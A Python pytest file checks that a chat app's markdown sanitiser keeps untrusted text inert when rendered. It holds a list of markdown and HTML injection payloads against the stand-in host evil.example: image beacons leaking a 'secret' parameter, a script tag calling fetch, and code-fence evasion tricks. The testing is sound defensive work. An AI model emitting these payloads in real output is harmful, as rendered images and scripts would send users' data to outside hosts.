"""Untrusted text rendered through a real CommonMark renderer (markdown-it-py, which Gradio's
dependencies install) never becomes an image, a tag or a link it did not spell out as text."""

from __future__ import annotations

import pytest

from app.markup import code_span, error_markdown, escape_inline, escape_text, safe_markdown

markdown_it = pytest.importorskip("markdown_it")

HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    '<img src="https://evil.example/a.png">',
    "<IMG SRC=https://evil.example/b.png>",
    "![r][ref]\n\n[ref]: https://evil.example/ref.png",
    "<picture><source srcset=https://evil.example/s.png></picture>",
    '<!-- c --><script>fetch("https://evil.example")</script>',
    # tricks that make a naive code-block detector leave HTML unescaped
    "```a`\n<img src=https://evil.example/fence-info.png>\n```",
    "```\ncode\n````\n<img src=https://evil.example/long-close.png>\n",
    "`span\n\n<img src=https://evil.example/blank-line.png>\n\n`",
    "\\`<img src=https://evil.example/escaped-tick.png>`",
    "\\\\`a` <img src=https://evil.example/parity.png> `b`",
    "<think><img src=https://evil.example/think.png></think>",
]


def _html(markdown: str) -> str:
    return markdown_it.MarkdownIt("commonmark").render(markdown).lower()


@pytest.mark.parametrize("text", HOSTILE)
def test_answers_never_render_remote_resources_or_tags(text):
    html = _html(safe_markdown(text))
    assert "<img" not in html and "<script" not in html and "<source" not in html and "<picture" not in html
    assert "evil.example" in html  # still shown, as text


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_text_renders_as_itself(text):
    html = _html(escape_text(text))
    assert "<img" not in html and "<a " not in html and "<code" not in html and "<script" not in html
    assert "<img" not in _html(escape_inline(text))


def test_answers_keep_their_markdown_and_code():
    text = "**Bold** and a [link](https://example.com).\n\n```html\n<img src=a.png>\n```\n\nx < y"
    html = _html(safe_markdown(text))
    assert "<strong>bold</strong>" in html and '<a href="https://example.com">' in html
    assert "&lt;img src=a.png&gt;" in html  # inside the code block, shown as written
    assert "x &lt; y" in html


def test_reasoning_tags_stay_for_the_chatbot_to_fold():
    assert safe_markdown("<think>why</think>So.").startswith("<think>why</think>")


@pytest.mark.parametrize("text", HOSTILE)
def test_names_in_code_spans_and_error_messages_stay_inert(text):
    from engine.errors import ConfigError

    span = _html(code_span(text))
    assert span.count("<code>") == 1 and "<img" not in span and "<a " not in span
    error = _html(error_markdown(ConfigError(text)))
    assert "<img" not in error and "<a " not in error and "<code" not in error
